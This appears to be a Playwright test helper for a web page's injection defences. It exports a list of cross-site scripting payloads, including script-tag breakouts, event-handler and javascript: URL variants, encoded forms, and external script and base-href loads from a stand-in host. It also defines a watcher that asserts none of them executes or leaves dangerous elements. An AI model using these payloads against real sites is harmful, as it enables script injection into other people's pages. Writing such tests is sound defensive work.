import { expect, type Page } from '@playwright/test';

/** What an attacker would have a reader open, type or paste: each breaks out of another place in a page. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '</template><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//attacker.invalid/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)//',
  '<<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<base href="//attacker.invalid/">',
  '<link rel=stylesheet href="//attacker.invalid/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '` onerror=alert(1) `',
  '" autofocus onfocus=alert(1) "',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  "'-alert(1)-'",
  '"-alert(1)-"',
  '\\"-alert(1)//',
  '`\x24{alert(1)}`',
  '\x24{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
  '\u2028alert(1)\u2029',
  '\ufeff<script>alert(1)</script>',
  '<mark><img src=x onerror=alert(1)></mark>',
  '539 <b onclick=alert(1)>autorização</b>',
  '__proto__[onerror]=alert(1)',
  // Behind "nota " the longest query ends in the middle of the last character.
  `${'x'.repeat(194)}😀`,
] as const;

/** A page that tells what a payload executed, opened or asked for. */
export class InjectionWatch {
  readonly #executed: string[] = [];
  readonly #page: Page;

  private constructor(page: Page) {
    this.#page = page;
  }

  /** Before the page is opened: every `alert`, dialog, message and request to another host is noted. */
  static async start(page: Page): Promise<InjectionWatch> {
    const watch = new InjectionWatch(page);
    await page.exposeFunction('noteExecution', (what: string) => watch.#executed.push(what));
    await page.addInitScript(() => {
      const note = (what: string) => Reflect.get(window, 'noteExecution')(what);
      window.alert = () => note('alert');
    });
    page.on('dialog', async (dialog) => {
      watch.#executed.push(`dialog: ${dialog.message()}`);
      await dialog.dismiss();
    });
    page.on('popup', (popup) => watch.#executed.push(`window: ${popup.url()}`));
    page.on('request', (request) => {
      if (/attacker\.invalid/.test(new URL(request.url()).host)) watch.#executed.push(`request: ${request.url()}`);
    });
    return watch;
  }

  /** Nothing was executed, and no element came of the payload that would be, now or when it is used. */
  async expectNothing(payload: string): Promise<void> {
    const made = await this.#page.evaluate(() => {
      const dangerous = (element: Element) =>
        [...element.attributes].filter(
          ({ name, value }) =>
            /^on/i.test(name) ||
            (/^(href|src|action|formaction|data|srcdoc|xlink:href)$/i.test(name) &&
              /^\s*(java\s*script:|vbscript:|data:text\/html|<)/i.test(value)),
        );
      const owns = (element: Element) => element.matches('iframe, object, embed, base, meta[http-equiv="refresh" i]');
      return [...document.querySelectorAll('*')]
        .filter(
          (element) =>
            (element.matches('script') && element.textContent === 'alert(1)') ||
            owns(element) ||
            dangerous(element).length > 0,
        )
        .map((element) => element.outerHTML.slice(0, 200));
    });
    expect.soft(made, `elements that came of ${payload}`).toEqual([]);
    expect(this.#executed, `executed by ${payload}`).toEqual([]);
  }
}
